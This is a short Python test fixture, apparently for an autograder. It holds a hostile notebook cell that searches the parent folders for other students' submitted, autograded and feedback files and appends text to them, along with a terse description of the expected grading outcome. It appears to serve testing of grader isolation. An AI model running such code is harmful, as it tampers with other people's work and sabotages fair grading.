"""Appends to every other student's notebook that it finds in the folders above."""

PLAIN = (
    "not graded, an error ends its grading; its neighbour gets 0 points; changes "
    "N/convolution.ipynb"
)

BASE = "stub"
FIRST_CELL = r"""
from pathlib import Path

here = Path.cwd()
me = here.parent.name
for top in [here, *here.parents]:
    for name in ("submitted", "autograded", "feedback"):
        for path in sorted(top.glob(f"{name}/*/*/*")):
            if path.is_file() and me not in path.parts:
                try:
                    with open(path, "a") as file:
                        file.write("hostile was here")
                except OSError:
                    pass
"""
